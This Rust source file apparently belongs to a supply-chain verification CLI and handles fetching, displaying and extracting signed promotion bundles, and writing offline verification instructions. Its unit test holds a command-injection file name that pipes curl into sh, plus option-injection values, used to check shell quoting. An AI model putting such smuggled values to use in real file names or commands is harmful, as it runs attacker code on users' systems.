//! Bundles: fetch, show, and take apart into files that other tools read.

mod signers;

use std::fs;
use std::io::ErrorKind;
use std::path::Path;

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use lockgate_api::Exit;
use lockgate_ledger::attestation::PROMOTION_PREDICATE_TYPE;
use lockgate_ledger::bodies::required;
use lockgate_ledger::bundle::{self as bundles, Bundle, Verified};
use lockgate_ledger::sigstore::{self, Inclusion};
use lockgate_ledger::{Leaf, TrustFile};
use lockgate_model::text::{argument, visible};
use lockgate_model::{Digest, Limits, PromotionId};
use lockgate_sign::dsse::Envelope;
use lockgate_tlog::proof_file::ProofFile;
use serde_json::json;

use self::signers::{Times, openssh_time};
use crate::cli;
use crate::commands::seen;
use crate::commands::trust::write_pins;
use crate::failure::{Failure, Outcome};
use crate::home::{read_file, write_file};
use crate::world::World;

/// `lockgate bundle`.
///
/// # Errors
/// What does not verify, or cannot be read or written.
pub fn bundle(world: &World, options: &cli::Bundle) -> Outcome {
    match options {
        cli::Bundle::Get { promotion, file } => {
            let file = file.clone().unwrap_or_else(|| format!("{promotion}.lockgate").into());
            // A mistyped directory is not made.
            if let Some(parent) = file.parent().filter(|parent| !parent.as_os_str().is_empty()) {
                let facts = fs::metadata(parent).map_err(|error| match error.kind() {
                    ErrorKind::NotFound => Failure::file(parent, &error)
                        .hint("make the directory first with `mkdir -p`, or name another one with `--file`"),
                    _ => Failure::file(parent, &error),
                })?;
                if !facts.is_dir() {
                    return Err(Failure::file(parent, &ErrorKind::NotADirectory.into()));
                }
            }
            let client = world.signed_in()?;
            let trust = world.trust(None);
            // Read before anything is asked: another command may see more meanwhile.
            let before = trust.as_ref().ok().map(|trust| seen::seen_of(world, trust)).transpose()?.unwrap_or_default();
            let fetched = client.get_bytes(&format!("/v1/promotions/{promotion}/bundle")).map_err(Failure::from);
            let bytes = match (&trust, fetched) {
                (Ok(trust), Ok(bytes)) => {
                    seen::check_not_set_back(world, &client, trust)?;
                    if let Ok(verified) = bundles::open(&bytes, trust, &mut Vec::new()) {
                        seen::check_newest(world, &before, &verified)?;
                    }
                    bytes
                }
                (Ok(trust), Err(refusal)) => return Err(seen::refused(world, &client, trust, refusal)),
                (Err(_), fetched) => fetched?,
            };
            if file == Path::new("-") {
                world.terminal.bytes(&bytes)?;
                return Ok(Exit::Done);
            }
            write_file(&file, &bytes, 0o644)?;
            let proves = trust.and_then(|trust| proven(&trust, *promotion, &bytes));
            let (name, size) = (file.display().to_string(), bytes.len());
            let shown = json!({ "promotion": promotion, "file": name, "bytes": size, "proves": proves.as_ref().ok() });
            let told = match proves {
                Ok("granted") => format!("{name} proves that {promotion} is granted: {size} bytes"),
                Ok(status) => format!("{name} proves that {promotion} is {status}, and no grant: {size} bytes"),
                Err(failure) => format!("{name} is not verified here: {}; {size} bytes", failure.message),
            };
            world.terminal.done(&shown, told)?;
            Ok(Exit::Done)
        }
        cli::Bundle::Show { file, trust } => show(world, file, trust.as_deref()),
        cli::Bundle::View { file, out, trust } => view(world, file, out, trust.as_deref()),
        cli::Bundle::Extract { file, to, trust } => extract(world, file, to, trust.as_deref()),
    }
}

/// What a bundle proves of its promotion, under what is pinned here: where it stands, in a word.
fn proven(trust: &TrustFile, promotion: PromotionId, bytes: &[u8]) -> Result<&'static str, Failure> {
    let verified = bundles::open(bytes, trust, &mut Vec::new()).map_err(Failure::unproven)?;
    Ok(verified.release.promotion(promotion)?.status().as_str())
}

fn open(world: &World, file: &Path, trust: Option<&Path>) -> Result<(Bundle, TrustFile, Verified), Failure> {
    let trust = world.trust(trust)?;
    let bytes = read_file(file, Limits::DEFAULT.bundle_bytes as u64)?;
    let mut checks = Vec::new();
    let verified = bundles::open(&bytes, &trust, &mut checks).map_err(Failure::unproven)?;
    Ok((Bundle::from_bytes(&bytes)?, trust, Verified { checks, ..verified }))
}

fn show(world: &World, file: &Path, trust: Option<&Path>) -> Outcome {
    let (bundle, _, verified) = open(world, file, trust)?;
    let shown = json!({
        "promotion": verified.promotion, "release": verified.release.name, "environment": verified.decision.environment,
        "outcome": verified.decision.outcome, "ledgerSize": verified.checkpoint_size, "entries": bundle.entries.len(),
        "decision": verified.decision, "checks": verified.checks, "suspects": verified.suspects,
    });
    world.terminal.show(&shown, || {
        let mut text = format!(
            "{}  {} into {}: {}\n",
            verified.promotion, verified.release.name, verified.decision.environment, verified.decision.outcome
        );
        for check in &verified.checks {
            text.push_str(&format!("  + {:<13} {}\n", check.name, visible(&check.found)));
        }
        for suspect in &verified.suspects {
            let why = visible(&suspect.why);
            text.push_str(&format!(
                "  ? suspect       entry {}, since entry {}: {why}\n",
                suspect.index, suspect.since
            ));
        }
        for gate in &verified.decision.gates {
            text.push_str(&format!(
                "  {:<8} {} ({}:{}): {}\n",
                gate.outcome.as_str(),
                gate.gate,
                visible(&gate.rule.file),
                gate.rule.line,
                visible(&gate.found)
            ));
        }
        text
    })?;
    Ok(Exit::Done)
}

/// Writes one HTML file that holds the bundle, what is trusted, and the browser's verifier.
fn view(world: &World, file: &Path, out: &Path, trust: Option<&Path>) -> Outcome {
    let (bundle, trust, verified) = open(world, file, trust)?;
    let text =
        |bytes: Vec<u8>| String::from_utf8(bytes).map_err(|error| Failure::usage("BUNDLE_INVALID", error.to_string()));
    let trust = serde_json::to_string(&trust).map_err(|error| Failure::usage("TRUST_INVALID", error.to_string()))?;
    let page = lockgate_server::viewer::page(&text(bundle.to_bytes()?)?, &trust);
    write_file(out, page.as_bytes(), 0o644)?;
    let shown = json!({ "promotion": verified.promotion, "file": out.display().to_string(), "sizeBytes": page.len() });
    world.terminal.show(&shown, || {
        format!(
            "{} shows {} and verifies it in any browser, offline\n\
             whoever opens it compares its trust file with the one that they pinned\n",
            out.display(),
            verified.promotion
        )
    })?;
    Ok(Exit::Done)
}

/// Writes every part in a format that other tools read. Names come from numbers and digests, never from the bundle.
fn extract(world: &World, file: &Path, to: &Path, trust: Option<&Path>) -> Outcome {
    // The parts of two bundles side by side would look like those of one.
    if fs::read_dir(to).is_ok_and(|mut entries| entries.next().is_some()) {
        return Err(Failure::new(Exit::Conflict, "DIRECTORY_NOT_EMPTY", format!("{} is not empty", to.display()))
            .hint("name a directory that is empty, or is not there yet"));
    }
    let (bundle, trust, verified) = open(world, file, trust)?;
    let bodies = bundle.decode_bodies()?;
    let (signed, log_key) = trust.open_checkpoint(bundle.checkpoint.as_bytes())?;
    let key = trust.attestation_public_key()?;
    let promotion = verified.release.promotion(verified.promotion)?;
    let text = |name: &str, bytes: &[u8]| write_file(&to.join(name), bytes, 0o644);
    text("checkpoint", bundle.checkpoint.as_bytes())?;
    for entry in &bundle.entries {
        let leaf = STANDARD.decode(&entry.leaf).map_err(|error| Failure::usage("BUNDLE_INVALID", error.to_string()))?;
        text(&format!("entries/{}.json", entry.index), &leaf)?;
        let proof = ProofFile {
            extra: None,
            index: entry.index,
            hashes: path_of(&entry.proof)?,
            checkpoint: bundle.checkpoint.clone(),
        };
        text(&format!("entries/{}.tlog-proof", entry.index), proof.to_text().as_bytes())?;
    }
    if let Some(attestations) = promotion.attestations.iter().rfind(|issued| issued.decision == verified.decision_index)
    {
        for issued in &attestations.issued {
            let name = if issued.predicate_type == PROMOTION_PREDICATE_TYPE { "promotion" } else { "vsa" };
            let bytes = required(&bodies, &issued.envelope).map_err(lockgate_ledger::ApplyError::from)?;
            let envelope = Envelope::parse(&bytes, &Limits::DEFAULT)
                .map_err(|error| Failure::usage("ATTESTATION_INVALID", error.to_string()))?;
            text(&format!("{name}.dsse.json"), &bytes)?;
            let entry = bundle.entries.iter().find(|entry| entry.index == issued.leaf).ok_or_else(|| {
                Failure::new(Exit::Denied, "LEAF_MISSING", format!("the bundle lacks leaf {}", issued.leaf))
            })?;
            let leaf =
                STANDARD.decode(&entry.leaf).map_err(|error| Failure::usage("BUNDLE_INVALID", error.to_string()))?;
            if !matches!(Leaf::decode(&leaf, &Limits::DEFAULT), Ok(Leaf::HashedRekord)) {
                return Err(Failure::new(
                    Exit::Denied,
                    "LOG_ENTRY_MISMATCH",
                    format!("entry {} is not the leaf of an attestation", issued.leaf),
                ));
            }
            let inclusion = Inclusion {
                index: issued.leaf,
                size: signed.checkpoint.size,
                root: signed.checkpoint.root,
                path: path_of(&entry.proof)?,
                checkpoint: &bundle.checkpoint,
            };
            let sigstore = sigstore::bundle(&envelope, &leaf, &log_key, &key, &inclusion);
            text(&format!("{name}.sigstore.json"), sigstore.to_string().as_bytes())?;
        }
    }
    for (number, approval) in promotion.approvals.iter().enumerate() {
        let document = required(&bodies, &approval.event.document).map_err(lockgate_ledger::ApplyError::from)?;
        text(&format!("approvals/{number}.json"), &document)?;
        text(&format!("approvals/{number}.json.sig"), approval.event.signature.as_bytes())?;
    }
    write_pins(to, &trust)?;
    // Not only the keys that count today: what an ended key signed in its time stays signed.
    let used: Vec<&str> = promotion.approvals.iter().map(|approval| approval.event.key.as_str()).collect();
    let signers = signers::allowed_signers(verified.state.governance()?, &Times::of(&bundle)?, &used);
    text("allowed_signers", signers.as_bytes())?;
    text("VERIFY.md", verify_text(&verified).as_bytes())?;
    let told = format!(
        "{} is taken apart in {}; VERIFY.md says how to check it with other tools",
        file.display(),
        to.display()
    );
    world.terminal.done(&json!({ "file": file.display().to_string(), "dir": to.display().to_string() }), told)?;
    Ok(Exit::Done)
}

fn path_of(proof: &[String]) -> Result<Vec<Digest>, Failure> {
    proof
        .iter()
        .map(|text| {
            let bytes: Option<[u8; 32]> = STANDARD.decode(text).ok().and_then(|bytes| bytes.try_into().ok());
            bytes
                .map(Digest::from_bytes)
                .ok_or_else(|| Failure::usage("BUNDLE_INVALID", "a proof hash is not 32 bytes of base64"))
        })
        .collect()
}

fn verify_text(verified: &Verified) -> String {
    let approvers: Vec<String> = verified.release.promotion(verified.promotion).map(|promotion| {
        promotion.approvals.iter().enumerate().map(|(number, approval)| format!(
            "ssh-keygen -Y verify -O verify-time={} -f allowed_signers -I {} -n {} -s approvals/{number}.json.sig < approvals/{number}.json",
            openssh_time(approval.time), approval.event.approver, lockgate_ledger::approval::NAMESPACE
        )).collect()
    }).unwrap_or_default();
    let artifact =
        verified.release.manifest.artifacts.first().map(|artifact| file_argument(&artifact.name)).unwrap_or_default();
    format!(
        "# How to check this without Lockgate\n\n\
         Compare `trust.json`, `lockgate.pub`, `trusted_root.json` and `allowed_signers` with the ones you pinned before.\n\n\
         Approvals, each at the time at which the ledger recorded it, with OpenSSH 9.1 or newer:\n\n    {}\n\n\
         A key that has ended is in `allowed_signers` with the end of its time, and fails after it; one that was in \
         someone else's hands fails from then on.\n\n\
         The verification summary with log inclusion, with cosign 3.1 or newer:\n\n    \
         cosign verify-blob-attestation --bundle vsa.sigstore.json --key lockgate.pub --trusted-root trusted_root.json \
         --type https://slsa.dev/verification_summary/v1 {artifact}\n\n\
         Entries and their proofs are in `entries/`, as C2SP tlog-proof files under `tlog-policy`.\n",
        if approvers.is_empty() { "(none)".to_owned() } else { approvers.join("\n    ") }
    )
}

/// The name of a file as one argument of a shell's command, and never as an option.
fn file_argument(name: &str) -> String {
    let argument = argument(name);
    match name.starts_with('-') {
        true => format!("./{argument}"),
        false => argument,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_file_name_is_one_argument_of_a_shell_and_no_option() {
        let check = |name: &str, expected: &str| assert_eq!(file_argument(name), expected);
        check("app-1.4.2.tar.gz", "app-1.4.2.tar.gz");
        check("app$(curl evil|sh).tgz", "'app$(curl evil|sh).tgz'");
        check("-rf", "./-rf");
        check("--key=$HOME", "./'--key=$HOME'");
    }
}
